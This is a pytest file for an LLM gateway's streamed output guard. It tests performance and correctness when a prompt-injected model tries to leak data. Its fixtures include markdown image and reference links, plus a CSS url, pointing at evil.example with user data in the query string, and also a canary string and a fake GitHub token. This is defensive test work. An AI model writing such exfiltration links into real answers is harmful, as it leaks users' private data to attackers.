"""Floods a prompt-injected model may write cost the output guard about linear CPU,
streamed and whole (the guard runs on the gateway's event loop)."""

from __future__ import annotations

import re
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ramparts.detectors.output import links, urls
from ramparts.policy import stream_context
from ramparts.policy.book import compile_policy
from ramparts.policy.guard import StreamOutputGuard, output_violations
from ramparts.policy.model import parse_policy

_POLICY = "guards:\n  output: {window_tokens: 16, allowed_domains: [python.org]}\n"
# Quadratic work shows as about 16x at 4x the size; linear as about 4x. The bound is
# generous: the clock is CPU time on a shared machine, and small sizes carry overhead.
_RATIO = 9.0
_FLOODS = ["[](", "![a](", "[a](x[", "\\[", "[a](https://python.org/x) "]


def _cpu(run: Callable[[], None]) -> float:
    best = float("inf")
    for _ in range(3):
        started = time.process_time()
        run()
        best = min(best, time.process_time() - started)
    return best


def _streamed(text: str, policy_yaml: str = _POLICY) -> None:
    policy = compile_policy(parse_policy(policy_yaml), "t", 1, b"k" * 32)
    assert policy.output_engine is not None and policy.policy is not None
    guard = StreamOutputGuard(policy.output_engine, policy.policy.guards.output, [])
    for at in range(0, len(text), 8):
        guard.feed(text[at : at + 8])
    guard.finish()
    assert not guard.violations


def _ratio(measure: Callable[[str], None], unit: str, size: int) -> float:
    small = unit * (size // len(unit))
    large = unit * (4 * size // len(unit))
    return _cpu(lambda: measure(large)) / max(_cpu(lambda: measure(small)), 1e-3)


@pytest.mark.parametrize("unit", _FLOODS)
def test_streamed_floods_scale_linearly(unit: str) -> None:
    assert _ratio(_streamed, unit, 3000) < _RATIO


# Streamed, the first "](https://x/" stops the answer; whole, each is a finding that
# spans LABEL_REACH chars back, and they all overlap (tests/detectors/
# test_output_flood_resolution.py counts the work of resolving them).
@pytest.mark.parametrize("unit", [*_FLOODS, "](https://x/"])
def test_whole_floods_scale_linearly(unit: str) -> None:
    policy = compile_policy(parse_policy(_POLICY), "t", 1, b"k" * 32)
    engine = policy.output_engine
    assert engine is not None

    def scan(text: str) -> None:
        engine.scan(text, origin="assistant")

    assert _ratio(scan, unit, 20000) < _RATIO


# --- work counted, not timed ------------------------------------------------------------


class _CountingPattern:
    """A compiled pattern that adds up the chars each search is given (``pos`` to
    ``endpos``): what a regex may have to read."""

    def __init__(self, pattern: re.Pattern[str], read: list[int]) -> None:
        self._pattern = pattern
        self._read = read

    def _count(self, text: str, pos: int = 0, endpos: int = sys.maxsize) -> None:
        self._read[0] += max(0, min(endpos, len(text)) - pos)

    def search(self, text: str, *args: int) -> Any:
        self._count(text, *args)
        return self._pattern.search(text, *args)

    def match(self, text: str, *args: int) -> Any:
        self._count(text, *args)
        return self._pattern.match(text, *args)

    def finditer(self, text: str, *args: int) -> Iterator[re.Match[str]]:
        self._count(text, *args)
        return self._pattern.finditer(text, *args)

    def findall(self, text: str, *args: int) -> Any:
        self._count(text, *args)
        return self._pattern.findall(text, *args)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._pattern, name)


def _chars_read_by_guard_patterns(monkeypatch: pytest.MonkeyPatch, text: str) -> int:
    """Chars handed to the stream guard's own patterns (``ramparts.policy`` modules)
    while ``text`` streams in 8-char deltas."""
    read = [0]
    for name, module in list(sys.modules.items()):
        if not name.startswith("ramparts.policy."):
            continue
        for attribute, value in list(vars(module).items()):
            if isinstance(value, _CountingPattern):
                value = value._pattern  # counted for an earlier text
            if isinstance(value, re.Pattern):
                monkeypatch.setattr(module, attribute, _CountingPattern(value, read))
    _streamed(text)
    return read[0]


def test_an_escaped_label_flood_reads_no_more_than_prose(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Each "[" of "\\[\\[…" opens a label that runs on, escaped brackets included, to
    # its 999-token limit: the search for the one still open used to read about 2,000
    # chars per "[", some 250 per char of the answer in 8-char deltas, where prose costs
    # the rescans' 30 or so (their context, 256 chars, per delta).
    flood = "\\[" * 6000
    prose = ("The quick brown fox [jumps] over the lazy dog, see note (1). " * 200)[: len(flood)]
    flood_read = _chars_read_by_guard_patterns(monkeypatch, flood)
    prose_read = _chars_read_by_guard_patterns(monkeypatch, prose)
    assert flood_read < 2 * prose_read, (flood_read / len(flood), prose_read / len(prose))


def test_a_link_heavy_answer_judges_each_link_about_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Rescans after each delta used to reach back LABEL_REACH chars for any destination
    # in view and judge it again: about 30 times each in 8-char deltas.
    hosts = ["docs.python.org/3/library", "en.wikipedia.org/wiki", "github.com/psf/requests"]
    answer = "".join(
        f"Item {n}: see [the page on {n}](https://{hosts[n % 3]}/page{n}.html) for more. "
        for n in range(150)
    )
    calls = [0]
    judge = urls.external_host

    def counted(url: str, *, keep_case: bool = False) -> str | None:
        calls[0] += 1
        return judge(url, keep_case=keep_case)

    monkeypatch.setattr(links, "external_host", counted)
    policy = "guards:\n  output: {window_tokens: 16, allowed_domains: [python.org]}\n"
    _streamed(answer, policy)
    destinations = len(links.HOSTED_DESTINATION.findall(answer))
    assert destinations == 150
    # Up to twice per judgement: whether the host carries data, and which host it is.
    assert calls[0] <= 2 * destinations + 2 * 8, calls[0] / destinations


# --- a long answer: the text no later rescan reads is dropped --------------------------

_ALT = "Company logo showing the quarterly results chart " * 7
_DATA = "the-users-internal-project-codename-is-bluebird"
_SAFE = [
    "The quick brown fox jumps over the lazy dog. ",
    "\n\n",
    "See [the docs](https://docs.python.org/3/) for more. ",
    f"![{_ALT} [fig]](https://docs.python.org/p.png) ",
    "[see [1]](https://evil.example/page) ",
    "![ok][ok]\n",
    "![a][r\\]x] ",
    "\n[r\\]x]: https://docs.python.org/t.png\n",
    "<style>.b { background: url('https://docs.python.org/bg.png') }\n",
    "</style>",
    "[EMAIL_3",
    "]",
    "\\[\\[\\[",
]
_UNSAFE = [
    f"![{_ALT}](https://evil.example/p.png?d={_DATA})",
    "![status][s]",
    "\n[s]: https://evil.example/t.png?u=alice-smith\n",
    "![a \\[1\\]][r\\]x] ",
    "\n[r\\]x]: https://evil.example/t.png\n",
    ".d { background: url(https://evil.example/d.png) }",
    "![" + "long words " * 60 + "[x]](https://evil.example/p.png) ",
    "CANARY-7f3a9c2e51",
    "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
]
_CANARY_POLICY = (
    "guards:\n  output: {window_tokens: 4, canaries: [CANARY-7f3a9c2e51],"
    " allowed_domains: [python.org]}\n"
)


def _guard(policy_yaml: str) -> tuple[StreamOutputGuard, Callable[[str], bool]]:
    compiled = compile_policy(parse_policy(policy_yaml), "t", 1, b"k" * 32)
    engine, policy = compiled.output_engine, compiled.policy
    assert engine is not None and policy is not None
    settings = policy.guards.output

    def whole(text: str) -> bool:
        return bool(output_violations(engine.scan(text, origin="assistant"), [], settings))

    return StreamOutputGuard(engine, settings, []), whole


def _stream_trace(policy_yaml: str, text: str, sizes: list[int]) -> list[tuple[Any, ...]]:
    """What each delta released, and where (in the answer) the guard stood after it."""
    guard, _ = _guard(policy_yaml)
    trace: list[tuple[Any, ...]] = []
    at = 0
    while at < len(text) and not guard.violations:
        size = sizes[len(trace) % len(sizes)]
        out = guard.feed(text[at : at + size])
        at += size
        base = guard._base
        shifted = [
            None if p is None else base + p
            for p in (guard._released, guard._next_start, guard._open_at, guard._markup_at)
        ]
        trace.append((out, *shifted, [v.audit() for v in guard.violations]))
    if not guard.violations:
        trace.append((guard.finish(), [v.audit() for v in guard.violations]))
    return trace


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    st.lists(st.sampled_from(_SAFE), min_size=30, max_size=80),
    st.one_of(st.none(), st.sampled_from(_UNSAFE)),
    st.floats(0.5, 1.0),
    st.lists(st.integers(1, 40), min_size=1, max_size=6),
)
def test_dropping_dead_text_changes_nothing_the_guard_does(
    monkeypatch: pytest.MonkeyPatch,
    pieces: list[str],
    unsafe: str | None,
    where: float,
    sizes: list[int],
) -> None:
    # Dropped as soon as there is any, the text no later rescan reads changes neither
    # what is released when, nor where the guard stands, nor a verdict.
    if unsafe is not None:
        pieces.insert(int(where * len(pieces)), unsafe)
    text = "\n\n".join(pieces)
    monkeypatch.setattr(stream_context, "_DEAD_TEXT", 1 << 30)
    kept = _stream_trace(_CANARY_POLICY, text, sizes)
    monkeypatch.setattr(stream_context, "_DEAD_TEXT", 1)
    assert _stream_trace(_CANARY_POLICY, text, sizes) == kept
    assert bool(kept[-1][-1]) == _guard(_CANARY_POLICY)[1](text)


def test_a_long_answer_holds_only_its_tail() -> None:
    # A 300 KB answer used to be kept whole, and grown by a copy per delta: quadratic
    # (400 KB in 8-char deltas, 4.5 s of copying).
    answer = "".join(
        f"Line {n}: see [the docs](https://docs.python.org/3/p{n}) and ![x][r\\]{n % 7}]\n"
        for n in range(4500)
    )
    guard, _ = _guard(_POLICY)
    released, longest = "", 0
    for at in range(0, len(answer), 8):
        released += guard.feed(answer[at : at + 8])
        longest = max(longest, len(guard._text))
    released += guard.finish()
    assert not guard.violations
    assert released == answer
    assert len(answer) > 300_000
    assert longest < len(answer) // 3, longest  # about 64 KB


# Constructs that reach far (with what of each must not be released).
_FAR_UNSAFE = {
    "long-image": (f"![{_ALT}](https://evil.example/p.png?d={_DATA})", "evil.example/p.png"),
    "far-bang": (
        "![" + "long words " * 60 + "[x]](https://evil.example/p.png) ",
        "evil.example/p.png",
    ),
    "reference-pair": (
        "![status][s]\n\n" + "word " * 150 + "\n[s]: https://evil.example/t.png?u=alice\n",
        "evil.example/t.png",
    ),
    "escaped-pair": (
        "![a \\[1\\]][r\\]y] " + "word " * 150 + "\n[r\\]y]: https://evil.example/t.png\n",
        "evil.example/t.png",
    ),
    "style-block": (
        "<style>" + "p{color:red}\n" * 60 + ".d{background:url(https://evil.example/d.png)}",
        "evil.example/d.png",
    ),
    "canary": ("CANARY-7f3a9c2e51", "CANARY"),
}


@pytest.mark.parametrize("name", sorted(_FAR_UNSAFE))
def test_constructs_open_while_text_is_dropped_are_judged_whole(
    monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    # Text is dropped as soon as there is any, while a long construct streams in.
    monkeypatch.setattr(stream_context, "_DEAD_TEXT", 1)
    filler = "\n\n".join(_SAFE) * 3 + "</style>\n\n"
    unsafe, marker = _FAR_UNSAFE[name]
    for size in (1, 5, 8, 13, 29, 40):
        for pad in (0, 7, 29):
            text = filler + "x" * pad + unsafe + " " + filler
            guard, whole = _guard(_CANARY_POLICY)
            assert whole(text) and not whole(filler)
            released = ""
            for at in range(0, len(text), size):
                released += guard.feed(text[at : at + size])
                if guard.violations:
                    break
            else:
                released += guard.finish()
            assert guard.violations, (size, pad)
            assert guard._base > 0  # text was dropped before the answer was stopped
            assert marker not in released, (size, pad)
